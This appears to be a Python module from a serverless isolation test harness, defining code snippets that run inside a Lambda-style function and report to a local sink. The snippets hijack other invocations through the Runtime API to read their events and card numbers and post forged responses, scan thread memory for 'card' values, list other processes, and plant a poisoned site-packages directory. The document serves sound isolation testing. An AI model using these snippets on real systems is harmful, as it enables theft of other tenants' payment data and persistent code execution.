"""What several techniques begin with, as code that runs behind the prelude of sink.py."""

from __future__ import annotations

# Reports again and again that it lives, then ends.
LIVE = """
def live(seconds=3):
    end = time.time() + seconds
    while time.time() < end:
        leak("alive")
        time.sleep(0.005)
    os._exit(0)
"""
# Calls the Runtime API, whose address the attacker knows, and takes events from it.
_CLIENT = """
import http.client, json
address = event["api"]
base = "/2018-06-01/runtime/invocation/"
def call(method, path, body=None, timeout={timeout_s}):
    connection = http.client.HTTPConnection(address, timeout=timeout)
    try:
        connection.request(method, base + path, body)
        reply = connection.getresponse()
        return reply.status, dict(reply.getheaders()), reply.read()
    except OSError:
        return 0, {}, b""
    finally:
        connection.close()
mine = context.aws_request_id
def skim(seconds):
    end = time.time() + seconds
    while time.time() < end:
        status, headers, body = call("GET", "next")
        found = headers.get("Lambda-Runtime-Aws-Request-Id")
        if status == 200 and found != mine:
            leak(body.decode())
            card = json.loads(body).get("card", "")
            call("POST", found + "/response", json.dumps({"mark": card, "paid_by": card[-4:]}))
        if status != 200:
            time.sleep(0.001)
"""


def client(timeout_s: float) -> str:
    """Code that talks to the Runtime API as the function's own client does, giving up after some seconds."""
    return _CLIENT.replace("{timeout_s}", str(timeout_s))


CLIENT = client(0.5)
# Everybody of the user but PID 1.
FAMILY = """
import signal
mine = os.getpid()
def others():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, mine)]
"""
# The same as a program of its own, in `code`.
PROGRAM = r"""
code = "import socket,time\nend=time.time()+3\nwhile time.time()<end:\n s=socket.socket(2,2); s.sendto(b'alive',('127.0.0.1',%d)); s.close(); time.sleep(.005)" % event["sink"]
"""
# Reads the variables of every thread, again and again.
WATCH = """
def watch():
    end = time.time() + 6
    while time.time() < end:
        for frame in list(sys._current_frames().values()):
            while frame:
                if "card" in frame.f_locals:
                    leak(frame.f_locals["card"])
                frame = frame.f_back
        time.sleep(0.005)
"""
# The C library, and the calls for kernel keys, which it has no functions for.
KEYS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
add_key, keyctl = (248, 250) if os.uname().machine == "x86_64" else (217, 219)
"""
# The C library.
CALLS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
"""
# A user site in a home that can be written, and what is to run from it.
SITE = """
folder = "/tmp/.local/lib/python%d.%d/site-packages" % sys.version_info[:2]
os.makedirs(folder, exist_ok=True)
code = "import os; os.write(1, b'poisoned '); s = __import__('socket').socket(2, 2); s.sendto(b'x', ('127.0.0.1', %d))" % event["sink"]
"""
# Whether this machine has System V objects, and keys: some containers refuse them.
HAS_IPC = CALLS + "result = libc.semget(0x4321, 0, 0) >= 0 or ctypes.get_errno() == 2"
HAS_KEYS = (
    KEYS
    + """
result = libc.syscall(keyctl, 0, ctypes.c_long(-4), 0) > 0 or ctypes.get_errno() == 126
"""
)
